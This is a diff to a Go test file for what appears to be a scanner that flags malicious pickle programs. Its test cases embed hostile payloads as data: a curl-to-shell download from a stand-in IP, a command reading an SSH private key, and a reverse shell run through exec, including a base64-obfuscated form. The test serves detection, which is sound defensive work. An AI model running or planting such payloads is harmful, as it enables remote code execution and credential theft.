@@ -43,7 +43,7 @@ func TestCarriedCode(t *testing.T) {
 	for _, tt := range []struct{ name, program, finding, says string }{
 		{"command", evil + `UNICODE "true"; TUPLE1; REDUCE; STOP`, "MA101 os.system", `calls os.system("true"), which runs commands`},
 		{"shell", evil + `UNICODE "curl http://192.0.2.1/x | sh"; TUPLE1; REDUCE; STOP`, "MA101 os.system", "downloads something and runs it"},
-		{"list of arguments", `GLOBAL "subprocess" "Popen"; EMPTY_LIST; MARK; UNICODE "cat"; UNICODE "/root/.ssh/id_rsa"; APPENDS; TUPLE1; REDUCE; STOP`, "MA101 subprocess.Popen", "reads credentials (.ssh/id_)"},
+		{"list of arguments", `GLOBAL "subprocess" "Popen"; EMPTY_LIST; MARK; UNICODE "cat"; UNICODE "/home/ann/.ssh/id_rsa"; APPENDS; TUPLE1; REDUCE; STOP`, "MA101 subprocess.Popen", "reads credentials (.ssh/id_)"},
 		{"python", exec(fmt.Sprintf(`UNICODE %q; `, reverse)), "MA101 builtins.exec", "opens a reverse shell"},
 		{"bytes", exec(fmt.Sprintf(`SHORT_BINBYTES %q; `, reverse)), "MA101 builtins.exec", "opens a reverse shell"},
 		{"base64", exec(fmt.Sprintf(`UNICODE "import base64;exec(base64.b64decode('%s'))"; `, base64.StdEncoding.EncodeToString([]byte(reverse)))), "MA101 builtins.exec", "opens a reverse shell"},
